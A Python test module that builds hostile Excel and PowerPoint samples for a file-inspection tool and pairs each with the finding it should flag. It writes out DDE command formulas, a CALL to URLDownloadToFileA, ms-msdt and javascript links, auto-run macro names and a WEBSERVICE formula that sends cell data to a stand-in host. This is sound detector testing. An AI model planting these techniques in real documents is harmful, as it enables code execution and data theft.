"""Hostile XLSX and PPTX files."""

from claims.inspection import Code
from tests.inspection.compounds import package_object
from tests.inspection.offices import (
    EXTERNAL,
    SHEET,
    VENDOR,
    content_types,
    external_book,
    link_click,
    links,
    override,
    pptx,
    pptx_saying,
    sheet,
    xlsx,
    xlsx_saying,
)
from tests.inspection.samples import PROGRAM, Rows, Sample, hostile

ACTIVE, OUTSIDE, MACRO = Code.ACTIVE_CONTENT, Code.EXTERNAL_REFERENCE, Code.MACRO
EMBEDDED = Code.EMBEDDED_OBJECT


def _xlsx_part(name: str, text: str) -> bytes:
    return xlsx({name: text.encode()})


_EXCEL: Rows = (
    ("DDE formula", xlsx_saying("cmd|'/C calc'!A0"), ACTIVE),
    ("DDE formula in quotes", xlsx_saying("+'cmd'|'/C calc'!A0"), ACTIVE),
    ("DDE formula within", xlsx_saying('IF(A2="a|b",MSEXCEL|a!b,0)'), ACTIVE),
    (
        "DDE name",
        _xlsx_part(
            "xl/workbook2.xml",
            f"<a xmlns='{SHEET}'><definedName name='a'>cmd|'/C x'!A</definedName></a>",
        ),
        ACTIVE,
    ),
    (
        "DDE link",
        _xlsx_part(
            "xl/externalLinks/externalLink1.xml",
            f'<externalLink xmlns="{SHEET}"><ddeLink ddeService="cmd"/></externalLink>',
        ),
        ACTIVE,
    ),
    (
        "DDE in a validation",
        xlsx(
            {
                "xl/worksheets/sheet1.xml": sheet(
                    after="<dataValidation><formula1>cmd|'a'!b</formula1></dataValidation>"
                )
            }
        ),
        ACTIVE,
    ),
    (
        "object link",
        _xlsx_part(
            "xl/externalLinks/externalLink1.xml",
            f'<externalLink xmlns="{SHEET}"><oleLink progId="x"/></externalLink>',
        ),
        OUTSIDE,
    ),
    ("web service", xlsx_saying('_xlfn.WEBSERVICE("http://e.test/"&amp;A1)'), OUTSIDE),
    ("web picture", xlsx_saying('_xlfn.IMAGE("http://e.test/x.png")'), OUTSIDE),
    ("sheet on a share", xlsx_saying("'\\\\e.test\\a\\[b.xlsx]S'!A1"), OUTSIDE),
    ("sheet on the web", xlsx_saying("'https://e.test/[b.xlsx]S'!A1"), OUTSIDE),
    ("link that runs", xlsx_saying('HYPERLINK("ms-msdt:/id x","click")'), ACTIVE),
    ("script in a link", xlsx_saying('IF(A1,HYPERLINK( "javascript:x"),1)'), ACTIVE),
    ("data base request", xlsx_saying('SQL.REQUEST("DSN=x")'), ACTIVE),
    ("program in Python", xlsx_saying("_xlfn._xlws.PY(0,1)"), ACTIVE),
    ("real-time data", xlsx_saying('RTD("server",,"x")'), ACTIVE),
    ("call", xlsx_saying('CALL("urlmon","URLDownloadToFileA","JJ")'), ACTIVE),
    (
        "macro sheet",
        _xlsx_part("xl/macrosheets/sheet1.xml", "<xm:macrosheet xmlns:xm='x'/>"),
        MACRO,
    ),
    (
        "macro sheet by type",
        xlsx(
            {"xl/a.xml": b"<a/>"},
            override("xl/a.xml", "application/vnd.ms-excel.macrosheet+xml"),
        ),
        MACRO,
    ),
    (
        "name that runs on opening",
        _xlsx_part(
            "xl/a.xml",
            f"<a xmlns='{SHEET}'><definedName name='_xlnm.Auto_Open'/></a>",
        ),
        MACRO,
    ),
    ("workbook on a share", external_book("file:///\\\\host\\share\\a.xlsx"), OUTSIDE),
    ("workbook on the web", external_book("https://e.test/a.xlsx"), OUTSIDE),
    (
        "web query",
        _xlsx_part(
            "xl/connections.xml",
            "<connections><connection id='1'><webPr url='http://e.test'/></connection></connections>",
        ),
        OUTSIDE,
    ),
    (
        "refresh on opening",
        _xlsx_part(
            "xl/connections.xml",
            "<connections><connection id='1' refreshOnLoad='1'/></connections>",
        ),
        OUTSIDE,
    ),
    (
        "remote picture in a comment",
        xlsx(
            {
                "xl/drawings/vmlDrawing1.vml": b"<xml xmlns:v='v'><v:imagedata src='http://e.test/a.png'/></xml>"
            }
        ),
        OUTSIDE,
    ),
    ("program inside", xlsx({"xl/media/image1.emf": PROGRAM}), EMBEDDED),
)

_POWERPOINT: Rows = (
    ("click that starts a program", link_click("ppaction://program"), ACTIVE),
    ("click that runs a macro", link_click("ppaction://macro?name=a"), MACRO),
    (
        "hover that opens an object",
        pptx_saying('<a:hlinkMouseOver action="ppaction://ole?verb=0"/>'),
        ACTIVE,
    ),
    (
        "animation that opens an object",
        pptx_saying('<p:cmd type="verb" cmd="0"/>'),
        ACTIVE,
    ),
    (
        "remote film",
        pptx(
            {
                "ppt/slides/_rels/slide1.xml.rels": links(
                    ("video", "https://e.test/v", EXTERNAL)
                )
            }
        ),
        OUTSIDE,
    ),
    (
        "macro workbook in a chart",
        pptx(
            {
                "ppt/charts/_rels/chart1.xml.rels": links(
                    ("package", "../embeddings/a.xlsm")
                )
            }
        ),
        MACRO,
    ),
    ("object", pptx({"ppt/embeddings/oleObject1.bin": package_object()}), EMBEDDED),
    (
        "slide show under the name",
        pptx(
            {
                "[Content_Types].xml": content_types(
                    "pptx", "", VENDOR + "presentationml.template.main+xml"
                )
            }
        ),
        Code.TYPE_MISMATCH,
    ),
)

HOSTILE: list[Sample] = [
    hostile(f"{kind}: {title}", f"proof.{kind}", build, *codes)
    for kind, group in (("xlsx", _EXCEL), ("pptx", _POWERPOINT))
    for title, build, *codes in group
]
